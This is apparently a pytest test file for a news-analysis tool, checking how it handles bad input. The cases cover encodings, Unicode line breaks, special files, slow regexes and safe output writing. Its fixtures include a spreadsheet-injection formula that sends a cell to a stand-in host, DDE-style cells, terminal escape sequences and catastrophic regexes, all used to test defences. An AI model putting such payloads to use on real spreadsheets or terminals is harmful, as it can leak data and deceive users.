"""Bad input, round two (issue 17): the inputs that crashed, hung, garbled text, deleted or
overwrote files, ran as spreadsheet formulas or were dropped without a word.

Every story here is invented for the test. Each test failed before its fix.
"""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from analysis.story.loading import StoryError, WarningLog, decode_bytes, encode_text, load_story
from analysis.pipeline import analyse

HEADER = "file,outlet,headline,published,author,url,wire_agency,republished_by,notes\n"
ARTICLE = ("Council votes to close the old ferry pier\n\n"
           "The harbour council voted on Tuesday to close the pier for repairs.\n\n"
           "Repairs will take two years, a spokeswoman said.\n")
# Separators that are Python whitespace but not a space: a Word paste with Shift+Enter gives
# U+2028; old Mac and EBCDIC exports give NEL; the information separators are control codes.
SEPARATORS = {"LS": "\u2028", "PS": "\u2029", "NEL": "\x85", "FS": "\x1c", "GS": "\x1d",
              "RS": "\x1e"}


def codes(frame) -> list[str]:
    return list(frame["code"])


def run_report(seeds: Path, out: Path):
    from analysis.app import report

    return report.run(seeds, out, run_notebooks=False, progress=False)


# --------------------------------------------------------------------------------------------
# Crashes


@pytest.mark.parametrize("sep", list(SEPARATORS.values()), ids=list(SEPARATORS))
def test_a_closing_quote_then_a_separator_then_said_does_not_crash(story, sep):
    text = ("Ferry pier to close\n\nThe harbour master spoke to reporters on Tuesday.\n\n"
            f"“We will rebuild it,”{sep}said the harbour master. Work starts in May.\n")
    a = analyse(story({"a.txt": text}, HEADER + "a.txt,Harbour News,,,,,,,\n"))
    quotes = a.quotes
    assert any("We will rebuild it" in q for q in quotes["quote"])


def test_every_table_is_computed_on_an_article_full_of_separators(story):
    from analysis.pipeline import TABLES

    paras = [f"“The pier is unsafe,”{sep}said Ann Lee.{sep}“Close it,”{sep}she added."
             for sep in SEPARATORS.values()]
    a = analyse(story({"a.txt": "Pier closes\n\n" + "\n\n".join(paras) + "\n"}))
    for name in TABLES:
        getattr(a, name)


def _nothing(kind: str, folder: Path) -> Path:
    folder.mkdir(parents=True)
    if kind == "header-only manifest":
        (folder / "manifest.csv").write_text(HEADER)
    elif kind == "only an empty file":
        (folder / "a.txt").write_bytes(b"")
    elif kind == "only a binary file":
        (folder / "a.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["empty folder", "header-only manifest", "only an empty file",
                                  "only a binary file"])
def test_a_story_with_nothing_to_analyse_gives_a_clean_report(tmp_path, capfd, kind):
    seeds = _nothing(kind, tmp_path / "story")
    r = run_report(seeds, tmp_path / "out")
    err = capfd.readouterr().err
    assert "Traceback" not in err
    assert r.failures == 0, r.warnings
    assert "nothing-to-analyse" in [w["code"] for w in r.warnings]
    assert (tmp_path / "out" / "warnings.csv").is_file()


# --------------------------------------------------------------------------------------------
# Hangs and special files


@pytest.fixture
def fifo(tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")

    def make(folder: Path, name: str) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        os.mkfifo(folder / name)
        return folder / name

    return make


@pytest.mark.timeout(30)
def test_a_fifo_named_in_the_manifest_is_refused_not_read(tmp_path, fifo):
    folder = tmp_path / "story"
    fifo(folder, "pipe.txt")
    (folder / "manifest.csv").write_text(HEADER + "pipe.txt,Pipe Post,,,,,,,\n")
    with pytest.raises(StoryError, match=r"line 2 \(file 'pipe\.txt'\).*not a regular file"):
        load_story(folder)


@pytest.mark.timeout(30)
def test_special_and_broken_entries_not_in_the_manifest_are_warned_about(tmp_path, fifo):
    folder = tmp_path / "story"
    fifo(folder, "pipe.txt")
    (folder / "folder.txt").mkdir()
    (folder / "dangling.txt").symlink_to(folder / "nowhere.txt")
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    (folder / "a.txt").write_text(ARTICLE)
    s = load_story(folder)
    assert list(s.articles["file"]) == ["a.txt"]
    warned = s.warnings[s.warnings["code"] != "no-manifest"]
    named = {f: c for f, c in zip(warned["file"], warned["code"])}
    assert named == {"pipe.txt": "not-a-file", "folder.txt": "not-a-file",
                     "dangling.txt": "broken-link", "loop.txt": "broken-link"}


def _furniture(folder: Path, pattern: str) -> None:
    with open(folder / "furniture.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["role", "reason", "pattern"])
        w.writerow(["boilerplate", "our own rule", pattern])


@pytest.mark.timeout(60)
def test_the_catastrophic_user_regex_of_the_issue_does_not_hang(story):
    line = "The harbour council voted on Tuesday to close the old pier for two years of repairs!"
    folder = story({"a.txt": "Pier closes\n\n" + line + "\n"}, HEADER + "a.txt,Harbour,,,,,,,\n")
    _furniture(folder, r"^(\w+\s?)*$")
    assert line in set(analyse(folder).lines["text"])


@pytest.mark.timeout(60)
def test_a_user_regex_that_runs_too_long_is_stopped_and_named(story):
    bad = r"^(\w|\w\w)+$"  # exponential even for a regex engine with safeguards
    line = "Pier" + "x" * 80 + "!"
    folder = story({"a.txt": "Pier closes\n\n" + line + "\nAnother " + line + "\n"},
                   HEADER + "a.txt,Harbour,,,,,,,\n")
    _furniture(folder, bad)
    a = analyse(folder)
    assert line in set(a.lines["text"])
    w = a.warnings[a.warnings["code"] == "regex-timeout"]
    assert len(w) == 1  # stopped once, then not tried again
    assert bad in w.iloc[0]["message"] and "furniture.csv:2" in w.iloc[0]["message"]
    assert w.iloc[0]["file"] == "a.txt" and w.iloc[0]["line"] == 3


def test_a_user_regex_still_matches_within_its_time_limit(story):
    folder = story({"a.txt": "Pier closes\n\nSPONSORED BY ACME\n\n" + ARTICLE}, None)
    _furniture(folder, r"^sponsored by \w+$")
    lines = analyse(folder).lines
    row = lines[lines["text"] == "SPONSORED BY ACME"].iloc[0]
    assert row["role"] == "boilerplate" and row["reason"].startswith("our own rule")


@pytest.mark.timeout(120)
def test_a_story_lexicon_pattern_that_runs_too_long_is_a_clear_error_naming_it(story):
    from analysis.measures import framing
    from analysis.story.patterns import PatternTimeout

    folder = story({"a.txt": ARTICLE})
    (folder / "themes.csv").write_text("theme,pattern\nrepairs,(x|xx)+y\n")
    [term] = framing.story_lexicon(folder, "themes.csv", key="theme")
    with pytest.raises(PatternTimeout, match=r"themes\.csv line 2: pattern .*\(x\|xx\)\+y"):
        list(term.regex.finditer("x" * 60 + "?"))
    # The project's own lexicons are trusted and compiled with re.
    assert all(isinstance(t.regex, re.Pattern) for t in framing.policy_lexicon() if t.regex)


# --------------------------------------------------------------------------------------------
# Silent corruption: decoding


def test_one_bad_byte_does_not_turn_the_curly_quotes_of_other_lines_into_mojibake():
    data = ("Pier closes\n\n“We will rebuild it,” the harbour master said.\n\n"
            "Café owners ‘worried’.\n").encode("utf-8") + b"Price: 5\x80 a ticket.\n"
    log = WarningLog()
    d = decode_bytes(data, "a.txt", log)
    lines = d.text.splitlines()
    assert lines[2] == "“We will rebuild it,” the harbour master said."
    assert lines[4] == "Café owners ‘worried’."
    assert lines[5] == "Price: 5€ a ticket."
    assert encode_text(d.text, d.encoding, d.bom) == data
    [w] = log.rows
    assert w["code"] == "not-utf8" and w["line"] == 6 and "line 6" in w["message"]


def test_the_mixed_encoding_warning_names_every_line_that_needed_it():
    data = b"ok line\n" + b"caf\xe9\n" + "“fine”\n".encode() + b"na\xefve\r\n" + b"last \x93x\x94"
    log = WarningLog()
    d = decode_bytes(data, "a.txt", log)
    assert d.text == "ok line\ncafé\n“fine”\nnaïve\r\nlast “x”"
    assert encode_text(d.text, d.encoding, d.bom) == data
    [w] = log.rows
    assert w["line"] == 2
    assert "2, 4-5" in w["message"], w["message"]


def test_a_latin1_file_that_starts_with_y_umlaut_thorn_is_not_read_as_utf16():
    data = "ÿþ is how the old press release began.\nÉté 2021!!\n".encode("latin-1")
    assert len(data) % 2 == 0
    d = decode_bytes(data, "a.txt", WarningLog())
    assert d.text.startswith("ÿþ is how") and d.encoding == "cp1252"
    assert encode_text(d.text, d.encoding, d.bom) == data


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_decoded_not_dropped_as_binary(story, codec):
    text = "Ferry pier to close\r\n\r\nThe harbour council voted to close the pier.\r\n"
    s = load_story(story({"a.txt": text.encode(codec)}, HEADER + "a.txt,Harbour,,,,,,,\n"))
    assert list(s.articles["text"]) == [text]
    assert list(s.articles["encoding"]) == [codec] and not s.articles["bom"][0]
    assert "utf16-no-bom" in codes(s.warnings)
    assert encode_text(text, codec, False) == text.encode(codec)


# --------------------------------------------------------------------------------------------
# Silent corruption: quotation marks and line ends


@pytest.mark.parametrize("text, quote", [
    ("港の議会は「桟橋を閉鎖する」と述べた。", "桟橋を閉鎖する"),
    ("市长说：『我们会重建码头』。", "我们会重建码头"),
    ("The mayor said ″we will rebuild the pier″ on Tuesday.", "we will rebuild the pier"),
    ("»Come in«, he said, and closed the door behind the reporters.", "Come in"),
    ("Sie sagte: »Wir bauen den Pier wieder auf.« Dann ging sie.", "Wir bauen den Pier wieder auf."),
    ("Han sa: ”Vi bygger bryggan igen.” Sedan gick han.", "Vi bygger bryggan igen."),
])
def test_quotation_marks_of_other_languages_are_found(story, text, quote):
    a = analyse(story({"a.txt": "Pier\n\n" + text + "\n"}))
    assert quote in list(a.quotes["quote"]), a.quotes[["quote"]]


def test_come_in_he_said_is_attributed_to_him(story):
    a = analyse(story({"a.txt": "Pier\n\nThe mayor opened the door.\n\n»Come in«, he said.\n"}))
    q = a.quotes[a.quotes["quote"] == "Come in"]
    assert len(q) == 1 and q.iloc[0]["verb"] == "said"


@pytest.mark.parametrize("sep", ["\u2029", "\u2028", "\x0c", "\x0b", "\x85"],
                         ids=["PS", "LS", "FF", "VT", "NEL"])
def test_unicode_line_breaks_end_lines(story, sep):
    from analysis.story import cleaning

    text = f"Pier closes{sep}Advertisement{sep}The council voted on Tuesday to close it.\n"
    assert [t for t, _ in cleaning.split_lines(text)] == [
        "Pier closes", "Advertisement", "The council voted on Tuesday to close it."]
    a = analyse(story({"a.txt": text}))
    lines = a.lines
    assert lines[lines["text"] == "Advertisement"].iloc[0]["role"] != "body"
    assert cleaning.rebuild_raw(lines, "a.txt") == text


def test_not_utf8_warning_line_numbers_count_unicode_line_breaks():
    data = "one\u2029two\n".encode("utf-8") + b"caf\xe9\n"
    log = WarningLog()
    decode_bytes(data, "a.txt", log)
    assert log.rows[0]["line"] == 3


ESCAPE = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"


def test_terminal_escapes_in_file_names_and_text_are_escaped_on_the_command_line(story):
    folder = story({f"evil{ESCAPE}.txt": "caf".encode() + b"\xe9 " + ESCAPE.encode() + b"\n"},
                   HEADER)
    r = subprocess.run([sys.executable, "-m", "analysis", "lines", "--seeds", str(folder)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "\\x1b" in r.stderr


# --------------------------------------------------------------------------------------------
# Files the report did not write


HYPERLINK = '=HYPERLINK("http://x.example/?"&A1)'


@pytest.fixture(scope="module")
def small_story(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("small")
    (folder / "a.txt").write_text(ARTICLE)
    (folder / "b.txt").write_text(ARTICLE.replace("Tuesday", "Monday"))
    rows = [["a.txt", HYPERLINK, "@SUM(1)", "", "+44 a", "-cmd", "", "", ""],
            ["b.txt", "Harbour News", "\tTab head", "", "", "", "", "", "-2+3"]]
    with open(folder / "manifest.csv", "w", newline="", encoding="utf-8") as f:
        f.write(HEADER)
        csv.writer(f, lineterminator="\n").writerows(rows)
    return folder


def test_the_ledger_is_trusted_only_for_files_whose_hash_still_matches(tmp_path):
    from analysis.writing import LEDGER_NAME, OutputFolder, write_text

    out = tmp_path / "out"
    (out / "tables").mkdir(parents=True)
    mine = out / "my-notes.txt"
    mine.write_text("the journalist's own notes\n")
    # A ledger that names a file the workbook never wrote, in the old format and with a hash.
    (out / LEDGER_NAME).write_text("my-notes.txt\n" + "0" * 64 + "  my-notes.txt\n")
    with OutputFolder(out, ["tables"]) as folder:
        write_text(out / "tables" / "a.csv", "a\n1\n")
        write_text(out / "tables" / "b.csv", "b\n2\n")
        folder.finish()
    assert mine.read_text() == "the journalist's own notes\n"
    (out / "tables" / "b.csv").write_text("edited by hand\n")
    with OutputFolder(out, ["tables"]) as folder:  # writes neither a.csv nor b.csv this time
        removed = folder.finish()
    assert removed == ["tables/a.csv"]
    assert (out / "tables" / "b.csv").read_text() == "edited by hand\n"
    assert mine.read_text() == "the journalist's own notes\n"


def _write_in_child(path: str) -> None:
    from analysis.writing import write_text

    write_text(path, "drawn in a forked process\n")


@pytest.mark.skipif("fork" not in __import__("multiprocessing").get_all_start_methods(),
                    reason="no fork here")
def test_files_written_by_forked_processes_are_the_runs_own(tmp_path):
    import multiprocessing

    from analysis.writing import OutputFolder, write_text

    out = tmp_path / "out"
    for _ in range(2):  # the second run must not remove what the first one wrote
        with OutputFolder(out, ["figures"]) as folder:
            write_text(out / "warnings.csv", "x\n")
            with multiprocessing.get_context("fork").Pool(1) as pool:
                pool.map(_write_in_child, [str(out / "figures" / "a.png")])
            folder.finish()
        assert (out / "figures" / "a.png").read_text() == "drawn in a forked process\n"
        assert folder.notes == []


def test_a_kill_between_writes_leaves_a_ledger_the_rerun_trusts(tmp_path):
    from analysis.writing import OutputFolder, write_text

    out = tmp_path / "out"
    with OutputFolder(out) as folder:  # killed before finish(): the ledger was appended to
        write_text(out / "warnings.csv", "x\n")
    with OutputFolder(out) as folder:
        write_text(out / "warnings.csv", "y\n")
        folder.finish()
    assert folder.notes == []
    assert sorted(p.name for p in out.iterdir()) == [".report-files", "warnings.csv"]


@pytest.mark.slow
def test_an_output_subfolder_that_is_a_link_out_of_the_folder_is_not_written_through(tmp_path, small_story):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "tables").symlink_to(elsewhere)
    with pytest.raises((StoryError, OSError, ValueError), match="tables"):
        run_report(small_story, out)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.slow
def test_a_users_own_files_in_the_output_folder_are_kept_with_a_note(formula_run):
    out, r = formula_run
    assert (out / "warnings.kept.csv").read_text() == "my own warnings\n"
    assert (out / "tables" / "lines.kept.csv").read_text() == "my own lines\n"
    notes = [w for w in r.warnings if w["code"] == "kept-user-file"]
    assert sorted(w["file"] for w in notes) == ["tables/lines.csv", "warnings.csv"]
    assert "tables/lines.kept.csv" in notes[0]["message"] + notes[1]["message"]
    assert (out / "tables" / "lines.csv").read_text() != "my own lines\n"
    written = pd.read_csv(out / "warnings.csv", dtype=str, keep_default_na=False)
    assert set(written["code"]) >= {"kept-user-file"}


# --------------------------------------------------------------------------------------------
# Spreadsheet formulas

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[+-]?(\d[\d,]*\.?\d*|\.\d+)(e[+-]?\d+)?%?|[+-]?(inf|nan)", re.IGNORECASE)


def dangerous_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row
                if cell.startswith(DANGEROUS) and not NUMBER.fullmatch(cell)]


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory, small_story):
    """One report on a story with formula-like manifest fields, into an output folder that
    already holds the user's own warnings.csv and tables/lines.csv (one run serves the
    formula, kept-file and killed-run tests: a report takes a minute or two here)."""
    out = tmp_path_factory.mktemp("formula-out")
    (out / "tables").mkdir()
    (out / "warnings.csv").write_text("my own warnings\n")
    (out / "tables" / "lines.csv").write_text("my own lines\n")
    return out, run_report(small_story, out)


@pytest.fixture(scope="module")
def formula_report(formula_run):
    return formula_run[0]


@pytest.mark.slow
def test_the_report_on_two_near_identical_articles_with_hostile_fields_has_no_failure(formula_run):
    assert formula_run[1].failures == 0, formula_run[1].warnings


def test_top_terms_of_outlets_with_no_distinctive_word_keeps_its_columns():
    from analysis.measures.distinctive import top_terms

    table = pd.DataFrame({"outlet": ["A", "B"], "term": ["the", "pier"], "count": [1, 1],
                          "count_rest": [1, 1], "delta": [0.0, 0.0], "variance": [1.0, 1.0],
                          "z": [0.0, 0.0], "rank": [1, 1]})
    assert list(top_terms(table).columns) == list(table.columns)


@pytest.mark.slow
def test_no_csv_the_report_writes_holds_a_formula(formula_report):
    csvs = sorted(formula_report.rglob("*.csv"))
    assert len(csvs) > 20
    bad = {str(p.relative_to(formula_report)): dangerous_cells(p)[:3] for p in csvs}
    assert {k: v for k, v in bad.items() if v} == {}
    articles = pd.read_csv(formula_report / "tables" / "articles.csv", dtype=str,
                           keep_default_na=False)
    assert "'" + HYPERLINK in set(articles["outlet"])


@pytest.mark.slow
def test_numbers_in_csvs_are_untouched(formula_report):
    length = pd.read_csv(formula_report / "tables" / "length.csv")
    numeric = length.select_dtypes("number")
    assert not numeric.empty


def test_the_in_memory_tables_keep_the_real_text(small_story):
    a = analyse(small_story)
    assert HYPERLINK in set(a.articles["outlet"])


def test_neutralise_follows_owasp():
    from analysis.writing import neutralise

    frame = pd.DataFrame({"t": ["=1+1", "+cmd|x", "-x", "@A", "\tx", "\rx", "plain", "-3.5", "+1e5",
                                "", None], "n": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]})
    out = neutralise(frame)
    assert list(out["t"][:8]) == ["'=1+1", "'+cmd|x", "'-x", "'@A", "'\tx", "'\rx", "plain", "-3.5"]
    assert list(out["n"]) == list(frame["n"])
    assert list(frame["t"][:1]) == ["=1+1"]  # the input is not changed


def test_the_cli_csv_output_is_neutralised(small_story):
    r = subprocess.run([sys.executable, "-m", "analysis", "warnings", "--seeds", str(small_story),
                        "--format", "csv"], capture_output=True, text=True, timeout=120)
    r2 = subprocess.run([sys.executable, "-m", "analysis", "lines", "--seeds", str(small_story),
                         "--format", "csv"], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and r2.returncode == 0
    rows = list(csv.reader(io.StringIO(r2.stdout)))
    assert not [c for row in rows for c in row if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)]


# --------------------------------------------------------------------------------------------
# Silent drops: --seeds ""


def test_an_empty_seeds_argument_is_an_error_not_the_current_folder(tmp_path):
    (tmp_path / "a.txt").write_text(ARTICLE)
    r = subprocess.run([sys.executable, "-m", "analysis", "lines", "--seeds", ""],
                       capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert r.returncode == 2
    assert r.stderr.startswith("error: ") and "--seeds" in r.stderr and r.stdout == ""


# --------------------------------------------------------------------------------------------
# Size


def test_an_article_over_the_size_limit_is_refused_with_a_warning(story):
    from analysis.story.loading import MAX_ARTICLE_BYTES

    big = ("The harbour council met again. " * (MAX_ARTICLE_BYTES // 31 + 10)).encode()
    assert len(big) > MAX_ARTICLE_BYTES
    s = load_story(story({"big.txt": big, "a.txt": ARTICLE}))
    assert list(s.articles["file"]) == ["a.txt"]
    w = s.warnings[s.warnings["code"] == "too-large"].iloc[0]
    assert w["file"] == "big.txt" and f"{MAX_ARTICLE_BYTES:,}" in w["message"]


def test_an_article_at_the_size_limit_is_kept(story):
    from analysis.story.loading import MAX_ARTICLE_BYTES

    unit = b"The harbour council met again.\n"
    data = unit * (MAX_ARTICLE_BYTES // len(unit))
    s = load_story(story({"big.txt": data}))
    assert list(s.articles["file"]) == ["big.txt"]


# --------------------------------------------------------------------------------------------
# Interrupted runs


def test_writes_are_atomic_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch):
    from analysis import writing

    path = tmp_path / "t.csv"
    writing.write_csv(pd.DataFrame({"a": [1]}), path)
    before = path.read_bytes()

    class Boom(Exception):
        pass

    def boom(*a, **k):
        raise Boom

    monkeypatch.setattr(pd.DataFrame, "to_csv", boom)
    with pytest.raises(Boom):
        writing.write_csv(pd.DataFrame({"a": [2]}), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def _readable(out: Path) -> None:
    for p in out.rglob("*"):
        if not p.is_file() or p.name.startswith("."):
            continue
        data = p.read_bytes()
        assert data, p
        if p.suffix == ".csv":
            pd.read_csv(p, dtype=str)
        elif p.suffix == ".png":
            assert data.startswith(b"\x89PNG") and data.endswith(b"IEND\xaeB`\x82"), p
        elif p.suffix == ".pdf":
            assert data.rstrip().endswith(b"%%EOF"), p


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_a_report_killed_half_way_leaves_a_readable_folder_and_a_rerun_completes_it(
        tmp_path, small_story, formula_report):
    out = tmp_path / "out"

    def command(folder):
        return [sys.executable, "-m", "analysis", "report", "--seeds", str(small_story), "--out",
                str(folder), "--no-progress", "--skip-notebooks"]

    cmd = command(out)
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and proc.poll() is None:
        if len(list((out / "figures").glob("*.png"))) >= 3:
            break
        time.sleep(0.05)
    assert proc.poll() is None, "the report finished before it could be killed"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    _readable(out)
    rerun = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    assert rerun.returncode == 0, rerun.stderr
    _readable(out)
    clean = formula_report  # the same story, reported in one go

    def listing(folder):
        return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()
                      and not p.name.startswith(".") and ".kept" not in p.name)

    assert listing(out) == listing(clean)
    assert (out / "tables" / "lines.csv").read_bytes() == (clean / "tables" / "lines.csv").read_bytes()
